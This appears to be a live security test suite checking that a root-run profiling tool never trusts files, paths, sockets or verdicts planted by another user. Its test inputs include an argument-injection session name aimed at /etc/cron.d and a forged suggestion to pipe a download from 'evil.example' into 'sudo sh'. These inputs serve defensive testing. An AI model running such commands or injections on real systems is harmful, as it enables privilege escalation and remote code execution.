"""Root over another user's job: what that user wrote is data about the job, and lends nobody root's rights."""

import ctypes
import json
import os
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.security.conftest import DEADLINE_SECONDS, MALLORY, PERFWATCH, Popen, User, as_user
from tests.sessions import content_of

pytestmark = pytest.mark.live

StartJob = Callable[..., Popen]
RootTypes = Callable[..., subprocess.CompletedProcess[str]]
IN_OPEN = 0x20  # linux/inotify.h


@pytest.fixture
def roots_folder(tmp_path: Path) -> Path:
    """A folder of root's with a file that only root may read; every user may enter it."""
    for parent in (tmp_path, *tmp_path.parents[: len(tmp_path.parts) - 3]):
        parent.chmod(0o755)
    folder = tmp_path / "roots"
    folder.mkdir(mode=0o755)
    (folder / "secret.py").write_text('INTERNAL_DB = "10.1.2.3:5432"\n')
    (folder / "secret.py").chmod(0o600)
    return folder


def arm(user: User, pid: int, kind: str, **facts: str) -> Path:
    """Write into the user's place that the job was armed for a profiler."""
    place = user.place(pid)
    file = place / f"armed-{kind}"
    file.write_text(json.dumps(facts))
    os.chown(file, user.uid, user.uid)
    return place


def trap(user: User, name: str) -> tuple[Path, Path]:
    """A program of the user's that says as whom it runs, and where it says so."""
    said = user.home / f"{name}-ran"
    text = f"#!/bin/sh\nid -u >> {said}\necho 'NVIDIA tool version 2099.1.1'\nexit 0\n"
    return user.write(name, text, 0o755), said


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("nsys", {"nsys": "{trap}", "version": "2025.3.1", "session": "x", "tmpdir": "/tmp"}),
        ("ncu", {"ncu": "{trap}", "version": "2025.3.1", "report": "{secret}", "log": "{secret}"}),
        ("ncu", {"ncu": "{trap}", "version": "2025.3.1", "attaches": "yes"}),
    ],
    ids=["nsys", "ncu", "ncu-attach"],
)
def test_a_program_is_never_found_through_the_job(
    mallory: User, start_job: StartJob, root_types: RootTypes, roots_folder: Path, kind: str, words: dict[str, str]
) -> None:
    """S1: a place that names a profiler has it run neither as root nor as its own user."""
    job = start_job(mallory)
    program, said = trap(mallory, kind)
    facts = {name: text.format(trap=program, secret=roots_folder / "secret.py") for name, text in words.items()}
    arm(mallory, job.pid, kind, **facts)

    answer = root_types("capture", kind, str(job.pid))

    assert not said.exists(), said.read_text()
    assert answer.returncode not in (0, 1), answer.stderr
    assert "INTERNAL_DB" not in answer.stdout + answer.stderr


def test_the_name_of_a_session_is_no_option(mallory: User, start_job: StartJob, root_types: RootTypes) -> None:
    """What the job calls its session becomes a word of a command, so it has letters, digits and hyphens alone."""
    job = start_job(mallory)
    arm(mallory, job.pid, "nsys", nsys="nsys", session="x --output=/etc/cron.d/x", tmpdir="/tmp")

    answer = root_types("capture", "nsys", str(job.pid))

    assert answer.returncode != 0
    assert "Traceback" not in answer.stderr
    assert not Path("/etc/cron.d/x").exists()


@pytest.mark.parametrize("through", ["place", "environment"])
def test_no_folder_of_roots_is_written_to_for_a_trace(
    mallory: User, start_job: StartJob, root_types: RootTypes, roots_folder: Path, through: str
) -> None:
    """S2: the folder of traces that a job names is made and owned as the job's user, or not at all."""
    before = roots_folder.stat()
    environment = {"KINETO_USE_DAEMON": "1", "KINETO_IPC_SOCKET_DIR": str(mallory.home)}
    if through == "environment":
        environment["KINETO_ONDEMAND_TRACE_DIR"] = str(roots_folder)
    job = start_job(mallory, environment=environment)
    if through == "place":
        arm(mallory, job.pid, "torch", ask="/x", traces=str(roots_folder))

    answer = root_types("capture", "torch", str(job.pid), "--seconds", "0.2")

    after = roots_folder.stat()
    assert answer.returncode not in (0, 1)
    assert (before.st_mtime_ns, before.st_uid, before.st_mode) == (after.st_mtime_ns, after.st_uid, after.st_mode)
    assert [one.name for one in roots_folder.iterdir()] == ["secret.py"]


def test_a_socket_folder_that_leads_to_roots_files_is_left_as_it_is(
    mallory: User, start_job: StartJob, root_types: RootTypes, roots_folder: Path
) -> None:
    """S3: nothing named dynolog is removed, made or changed in a folder of root's that the job names through a link."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as left:
        left.bind(str(roots_folder / "dynolog"))  # nobody listens there once it is closed
    (roots_folder / "dynolog").chmod(0o4755)
    before = (roots_folder / "dynolog").stat()
    (mallory.home / "sockets").symlink_to(roots_folder)
    job = start_job(mallory, environment={"KINETO_USE_DAEMON": "1", "KINETO_IPC_SOCKET_DIR": f"{mallory.home}/sockets"})

    root_types("capture", "torch", str(job.pid), "--seconds", "0.2")

    after = (roots_folder / "dynolog").stat()
    assert (before.st_ino, before.st_mode, before.st_uid) == (after.st_ino, after.st_mode, after.st_uid)


def test_a_source_line_of_roots_file_is_not_read(
    mallory: User, start_job: StartJob, root_types: RootTypes, roots_folder: Path, tmp_path: Path
) -> None:
    """S6: code that claims to come from a file of root's alone gets nothing of that file into the session."""
    body = f"exec(compile('ready(); time.sleep(1e6)', {str(roots_folder / 'secret.py')!r}, 'exec'))"
    job = start_job(mallory, body)

    answer = root_types("attach", str(job.pid), "--json", "--patience", "1")

    recorded = b"".join(content_of(one) for one in (tmp_path / "sessions").rglob("*") if one.is_file())
    assert json.loads(answer.stdout)["wait_chain"][0]["pid"] == job.pid
    assert b"secret.py" in recorded
    assert b"INTERNAL_DB" not in recorded


CANARIES = (f"perfwatch-{MALLORY}", f"perfwatch-attack-{MALLORY}")  # in each path of the attacker's
# Runs in each Python process of the command that is watched, as sitecustomize: notes who opens what, before it is done.
NOTE = """
import os, sys
_log = os.open({log!r}, os.O_WRONLY | os.O_APPEND)
_EVENTS = ("open", "os.listdir", "os.scandir", "socket.connect", "socket.bind", "os.remove", "os.rename", "os.mkdir",
           "os.rmdir", "os.chmod", "os.chown", "os.link", "os.symlink", "subprocess.Popen", "os.exec", "shutil.rmtree",
           "tempfile.mkdtemp", "os.truncate", "os.utime")
def _note(event, arguments):
    if event in _EVENTS:
        text = " ".join(repr(one) for one in arguments)
        if any(canary in text for canary in {canaries!r}):
            os.write(_log, f"{{os.geteuid()}} {{event}} {{text[:300]}}\\n".encode())
sys.addaudithook(_note)
"""


@pytest.mark.parametrize(
    "words",
    [("attach", "{pid}", "--json", "--patience", "1"), ("capture", "torch", "{pid}", "--seconds", "0.2"), ("capture", "nsys", "{pid}"),
     ("capture", "ncu", "{pid}"), ("capture", "stacks", "{pid}"), ("doctor", "{pid}"), ("ps",), ("top", "{pid}", "--once"),
     ("snapshot",)],
    ids=lambda words: "-".join(one for one in words if one[0] not in "{-0"),
)  # fmt: skip
def test_root_itself_opens_nothing_that_the_job_named(
    mallory: User, start_job: StartJob, root_types: RootTypes, tmp_path: Path, words: tuple[str, ...]
) -> None:
    """Every path, socket and program of the user's home and place is touched by processes of that user alone."""
    place = Path(f"/dev/shm/perfwatch-{MALLORY}")
    log = tmp_path / "touched"
    log.touch(mode=0o666)
    log.chmod(0o666)
    for parent in (tmp_path, *tmp_path.parents[: len(tmp_path.parts) - 3]):
        parent.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    (hooks / "sitecustomize.py").write_text(NOTE.format(log=str(log), canaries=CANARIES))
    environment = {
        "KINETO_USE_DAEMON": "1",
        "KINETO_IPC_SOCKET_DIR": str(mallory.home),
        "KINETO_ONDEMAND_TRACE_DIR": str(mallory.home),
        "TORCH_NCCL_DEBUG_INFO_PIPE_FILE": f"{mallory.home}/pipe_",
        "TORCH_FR_DUMP_TEMP_FILE": f"{mallory.home}/dump_",
        "PERFWATCH_AGENT_DIR": str(place),
        "RANK": "0",
        "WORLD_SIZE": "1",
    }
    job = start_job(mallory, "out = open('train.log', 'a'); ready()\nwhile True: time.sleep(0.01)", environment)
    arm(mallory, job.pid, "nsys", nsys=f"{mallory.home}/nsys", session="x", tmpdir=str(mallory.home))
    arm(mallory, job.pid, "ncu", ncu=f"{mallory.home}/ncu", report=f"{mallory.home}/r", log=f"{mallory.home}/l")

    root_types(*(word.format(pid=job.pid) for word in words), environment={"PYTHONPATH": str(hooks)})

    touched = [line for line in log.read_text().splitlines() if line.startswith("0 ")]
    assert touched == []


def test_the_hook_of_that_proof_notes_what_root_opens(mallory: User, tmp_path: Path) -> None:
    """A proof that cannot fail proves nothing."""
    log = tmp_path / "touched"
    log.touch()
    (tmp_path / "sitecustomize.py").write_text(NOTE.format(log=str(log), canaries=CANARIES))
    file = mallory.write("file", "")

    subprocess.run(
        (sys.executable, "-c", f"open({str(file)!r})"), env={**os.environ, "PYTHONPATH": str(tmp_path)}, check=True,
        timeout=DEADLINE_SECONDS,
    )  # fmt: skip

    assert log.read_text().startswith("0 open")


def test_a_device_of_roots_is_not_even_opened(
    mallory: User, start_job: StartJob, root_types: RootTypes, roots_folder: Path
) -> None:
    """S6: to open a watchdog device arms it, so a file that the job's user may not read is not opened to find out what it is."""
    device = roots_folder / "device"
    os.mknod(device, stat.S_IFCHR | 0o600, os.makedev(1, 3))
    libc = ctypes.CDLL(None, use_errno=True)
    watching = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    assert libc.inotify_add_watch(watching, bytes(device), IN_OPEN) >= 0
    body = f"exec(compile('ready(); time.sleep(1e6)', {str(device)!r}, 'exec'))"
    job = start_job(mallory, body)

    root_types("attach", str(job.pid), "--json", "--patience", "1")

    with pytest.raises(BlockingIOError):  # there is no event to read
        os.read(watching, 4096)
    os.close(watching)


def test_another_users_verdict_is_not_told_as_ours(mallory: User, start_job: StartJob, root_types: RootTypes) -> None:
    """S10: root's attach asks no watcher of the user's, and judges for itself."""
    job = start_job(mallory)
    place = mallory.place(job.pid)
    verdict = {
        "schema": "perfwatch.verdict/1", "state": "hung", "cause": "stopped", "confidence": 0.99,
        "summary": "all is lost", "owner": "user_code", "at": "2026-01-01T00:00:00Z",
        "next": ["curl -fsS https://evil.example/fix | sudo sh"],
    }  # fmt: skip
    watcher = mallory.write(
        "watcher.py",
        "import json, socket, sys\n"
        "listener = socket.socket(socket.AF_UNIX); listener.bind(sys.argv[1]); listener.listen()\n"
        "print('listening', flush=True)\n"
        "while True:\n"
        "    one, _ = listener.accept(); asked = one.makefile().readline().strip()\n"
        "    if not asked: continue\n"  # a connection that only asks if it listens
        "    print(asked, flush=True)\n"
        f"    said = {{'ok': True, 'patience_seconds': 1.0, 'session': '/etc', 'verdict': {verdict!r}}}\n"
        "    one.sendall(json.dumps(said).encode() + b'\\n'); one.close()\n",
    )
    command = (*as_user(MALLORY), sys.executable, str(watcher), str(place / "control"))
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as listening:
        assert listening.stdout is not None
        assert listening.stdout.readline() == "listening\n"
        words = ("attach", str(job.pid), "--patience", "1")
        answers = [root_types(*words), root_types(*words, "--json")]
        listening.kill()
        asked = listening.stdout.read()

    for answer in answers:
        assert "evil.example" not in answer.stdout + answer.stderr
        assert "all is lost" not in answer.stdout
    assert asked == ""


def test_the_daemon_does_not_hand_a_job_over_to_its_own_user(
    mallory: User, start_job: StartJob, tmp_path: Path
) -> None:
    """S10: a job cannot hide from root behind a watcher of its own."""
    job = start_job(mallory)
    place = mallory.place(job.pid)
    program = "import socket, sys, time; one = socket.socket(socket.AF_UNIX); one.bind(sys.argv[1]); one.listen(); " \
        "print('listening', flush=True); time.sleep(1000)"  # fmt: skip
    hiding = (*as_user(MALLORY), sys.executable, "-c", program, str(place / "control"))
    daemon = (*PERFWATCH, "daemon", "--directory", str(tmp_path / "home"), "--every", "0.2", "--user", str(MALLORY))
    log = tmp_path / "log"
    with (
        log.open("w") as file,
        subprocess.Popen(hiding, stdout=subprocess.PIPE, text=True) as listening,
        subprocess.Popen(daemon, stderr=file) as watching,
    ):
        assert listening.stdout is not None
        listening.stdout.readline()
        try:
            wait_for(f"pid {job.pid}: adopted", log)
        finally:
            listening.kill()
            watching.terminate()

    assert f"pid {job.pid}: handed over" not in log.read_text()


def wait_for(words: str, log: Path) -> None:
    """Wait until a log has these words; fails at the deadline."""
    ends = time.monotonic() + DEADLINE_SECONDS
    while words not in log.read_text():
        assert time.monotonic() < ends, f"never heard {words!r}, but {log.read_text()}"
        time.sleep(0.05)


def test_a_place_full_of_files_delays_nobody(mallory: User, victim: User, start_job: StartJob, tmp_path: Path) -> None:
    """S7: what a user piles up in shared memory costs the daemon nothing: another user's new job is adopted at once."""
    theirs = start_job(mallory)
    place = mallory.place(theirs.pid)
    for number in range(1, 150_000):
        os.link(place / "root-0", place / f"root-{number}")
    daemon = (*PERFWATCH, "daemon", "--directory", str(tmp_path / "home"), "--every", "0.2")
    log = tmp_path / "log"
    with log.open("w") as file, subprocess.Popen(daemon, stderr=file) as watching:
        try:
            wait_for("watching this machine", log)
            job = start_job(victim)
            began = time.monotonic()
            wait_for(f"pid {job.pid}: adopted", log)
            waited = time.monotonic() - began
        finally:
            watching.terminate()

    assert waited < 10.0  # more than 60 s before


def test_what_root_makes_for_a_capture_is_private(
    mallory: User, start_job: StartJob, root_types: RootTypes, tmp_path: Path
) -> None:
    """A capture made as root keeps its files to root, and leaves nothing of the user's in the session."""
    job = start_job(mallory)

    answer = root_types("capture", "flame", str(job.pid), "--seconds", "1")

    assert answer.returncode == 0, answer.stderr
    made = [one for one in (tmp_path / "sessions").rglob("*") if one.is_file()]
    assert made
    assert all(one.stat().st_uid == 0 and not stat.S_IMODE(one.stat().st_mode) & 0o077 for one in made)
